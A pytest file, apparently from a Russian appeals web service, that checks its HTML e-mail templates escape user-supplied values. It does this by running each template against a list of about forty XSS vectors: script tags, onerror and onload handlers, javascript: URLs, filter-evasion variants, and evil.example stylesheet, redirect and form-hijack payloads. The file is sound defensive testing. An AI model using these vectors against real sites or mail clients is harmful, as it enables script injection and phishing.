"""Issue 9.3: every value in an HTML e-mail is escaped. Each e-mail template is rendered
with every free-text value an applicant or a clerk controls set to each vector of an XSS
corpus; the HTML part may then hold only the templates' own tags and attributes."""
import datetime as dt
from html.parser import HTMLParser
from pathlib import Path

import pytest

from domain.outbox import notify
from domain.text import clean_html
from models import Appeal, Document, Organization, Post, TermRule, User

pytestmark = pytest.mark.usefixtures("database")

TEMPLATES = sorted(p.name[:-len(".subject.txt")]
                   for p in (Path(__file__).resolve().parents[3] / "templates" / "email")
                   .glob("*.subject.txt"))

CORPUS = [
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext></p><script>alert(1)</script>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example><button>Войти</button></form>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<table background=javascript:alert(1)>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<scr<script>ipt>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\x20type=\"text/javascript\">alert(1);</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7*7 }}{% raw %}",
    "\u202e<script>alert(1)</script>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<textarea></textarea><script>alert(1)</script>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "\"onmouseover=\"alert(1)",
    "<p>Ответ <b>жирный</b></p><script>alert(1)</script>",
]

# What the templates themselves write; anything else came from a value.
TEMPLATE_TAGS = {"html", "head", "meta", "title", "body", "p", "hr", "br", "b", "div", "table",
                 "tr", "td", "blockquote", "a", "pre", "ul", "li", "h2"}
# What nh3 keeps of rich text (domain/text.py), which the templates insert as it is.
RICH_TEXT_TAGS = {"p", "br", "b", "strong", "i", "em", "u", "ul", "ol", "li", "a", "blockquote",
                  "h3", "h4", "s", "div", "span"}
ALLOWED_ATTRIBUTES = {"style", "lang", "charset", "href", "rel", "title"}


class Elements(HTMLParser):
    """Every start tag and its attributes."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))


def _elements(html: str) -> list:
    parser = Elements()
    parser.feed(html)
    return parser.found


def _context(vector: str, kind: str) -> dict:
    """Every value a template may show, each carrying the vector where a person typed it."""
    supplier = Organization(id=3, kind=Organization.SUPPLIER, name=vector, inbox_email="gp@x.ru")
    grid = Organization(id=1, kind=Organization.GRID, name=vector, inbox_email="tp@x.ru")
    applicant = User(id=7, email="user@example.ru", legal_form=User.COMPANY, last_name=vector,
                     first_name=vector, middle_name=vector, company_name=vector, inn=vector,
                     ogrn=vector, snils=vector, ogrnip=vector, phone=vector, confirmed=False)
    appeal = Appeal(id=11, kind=kind, state=Appeal.ACTIVE, reg_number=vector, subject=vector,
                    power="le15", scheme="permanent", complies=True, comment_html=clean_html(vector))
    appeal.applicant, appeal.organization, appeal.supplier = applicant, grid, supplier
    document = Document(id=5, doc_type=vector, file_name=vector, size=1024, party="grid")
    post = Post(id=9, body_html=clean_html(vector), side=Post.APPLICANT)
    return dict(appeal=appeal, case=appeal, a=appeal, org=grid, organization=grid,
                supplier=supplier, applicant=applicant, user=applicant, document=document,
                documents=[document], post=post, text=vector, status=vector, number=vector,
                files=[vector, vector], from_supplier=False, method=vector,
                needs_signature=True, signed_at=dt.datetime(2026, 12, 1, 10, 0),
                link="https://lk.example.ru/appeals/11", grid_name=vector,
                items=[(vector, vector)], answers=[(vector, vector, document)],
                due=dt.date(2026, 12, 30),
                rule=TermRule(code="pay_invoice_small", name=vector, legal_basis=vector),
                step=vector, last_day=dt.date(2026, 12, 14))


@pytest.mark.parametrize("template", TEMPLATES)
@pytest.mark.parametrize("kind", [Appeal.TP, Appeal.MESSAGE])
def test_no_value_becomes_markup_in_html_emails(app, template, kind):
    allowed_tags = TEMPLATE_TAGS | RICH_TEXT_TAGS
    with app.test_request_context():
        for vector in CORPUS:
            subject, text, html = notify.render(template, **_context(vector, kind))
            for tag, attrs in _elements(html):
                assert tag in allowed_tags, (template, vector, tag)
                for name, value in attrs:
                    assert name in ALLOWED_ATTRIBUTES, (template, vector, tag, name)
                    assert not (value or "").strip().lower().startswith(
                        ("javascript:", "data:")), (template, vector, name, value)
            assert "<script" not in html.lower(), (template, vector)


def test_corpus_covers_every_template():
    assert len(TEMPLATES) == 17 and len(CORPUS) >= 40
